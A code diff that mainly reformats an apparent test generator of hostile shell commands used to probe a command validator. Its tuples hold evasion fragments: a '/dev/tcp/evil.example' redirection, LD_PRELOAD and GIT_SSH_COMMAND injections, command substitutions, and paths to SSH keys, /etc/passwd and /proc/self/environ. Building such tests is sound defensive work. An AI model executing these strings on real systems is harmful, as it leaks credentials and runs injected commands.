@@ -31,15 +31,18 @@ _FORMS = (
 )  # fmt: skip
 _INNER = (
     "$({})", "`{}`", '"$({})"', '"`{}`"', "<({})", ">({})", "${{x:-$({})}}", "$(( $({}) ))", "a$({})b", "${{x@P}}",
-    "$x", "${{x}}", "$'\\x24({})'", "${{!x}}", "~", "~root", "*", "?.md", "[ab]*", "{{a,b}}", "$1", "$@", "$-", "a{{1..3}}",
+    "$x", "${{x}}", "$'\\x24({})'", "${{!x}}", "~", "~root", "*", "?.md", "[ab]*", "{{a,b}}", "$1", "$@", "$-",
+    "a{{1..3}}",
     '$"{}"', "\\$({})", "${{x:=`{}`}}", "$[1+1]", "@(a|b)", "!!",
 )  # fmt: skip
 _REDIRECTIONS = (
-    "> {}", ">> {}", "< {}", "2> {}", "&> {}", ">| {}", "<> {}", "2>&1", "<<< {}", "<<E\n{}\nE", "<<'E'\n{}\nE", ">& {}",
+    "> {}", ">> {}", "< {}", "2> {}", "&> {}", ">| {}", "<> {}", "2>&1", "<<< {}", "<<E\n{}\nE", "<<'E'\n{}\nE",
+    ">& {}",
     "1>{}", "3<{}", "<<-E\n{}\nE", ">/dev/tcp/evil.example/9",
 )  # fmt: skip
 _ASSIGNMENTS = (
-    "LD_PRELOAD=./x.so", "PATH=.:$PATH", "BASH_ENV=x", "GIT_PAGER=id", "GIT_SSH_COMMAND=id", "X=$(id)", "IFS=x", "X=`id`",
+    "LD_PRELOAD=./x.so", "PATH=.:$PATH", "BASH_ENV=x", "GIT_PAGER=id", "GIT_SSH_COMMAND=id", "X=$(id)", "IFS=x",
+    "X=`id`",
     "PROMPT_COMMAND=id", "GIT_EXTERNAL_DIFF=id", "a[0]=1", "X+=1", "export X=1;", "declare X=1;", "ENV=x", "PAGER=id",
 )  # fmt: skip
 _OPTIONS = {
@@ -51,7 +54,8 @@ _OPTIONS = {
     "cat": ("--help", "--number", "--", "-- /etc/passwd", "--show-all", "--output=x"),
 }  # fmt: skip
 _OUTSIDE = (
-    "/etc/passwd", "../secret", "src/../../x", "~/.ssh/id_rsa", "/proc/self/environ", "./../x", "~root/.bashrc", "'/etc/x'",
+    "/etc/passwd", "../secret", "src/../../x", "~/.ssh/id_rsa", "/proc/self/environ", "./../x", "~root/.bashrc",
+    "'/etc/x'",
     '"../x"', "a/..", "/",
 )  # fmt: skip
 _NAMES = (
@@ -87,7 +91,7 @@ _BROKEN = (
 
 
 def hostile_command(random: Random) -> str:
-    """One command that no honest reader takes for an allowed one. Between one and three evasions, one inside another."""
+    """One command that no honest reader takes for an allowed one: between one and three evasions, one in another."""
     text = random.choice(_BASES)
     for _ in range(random.choice((1, 1, 1, 2, 2, 3))):
         text = random.choice(_EVASIONS)(text, random)
@@ -161,5 +165,18 @@ def _break(text: str, random: Random) -> str:
 
 
 _EVASIONS = (
-    _join, _join, _wrap, _form, _inner, _inner, _redirect, _assign, _option, _outside, _name, _lookalike, _unseen, _break,
-)  # fmt: skip
+    _join,
+    _join,
+    _wrap,
+    _form,
+    _inner,
+    _inner,
+    _redirect,
+    _assign,
+    _option,
+    _outside,
+    _name,
+    _lookalike,
+    _unseen,
+    _break,
+)
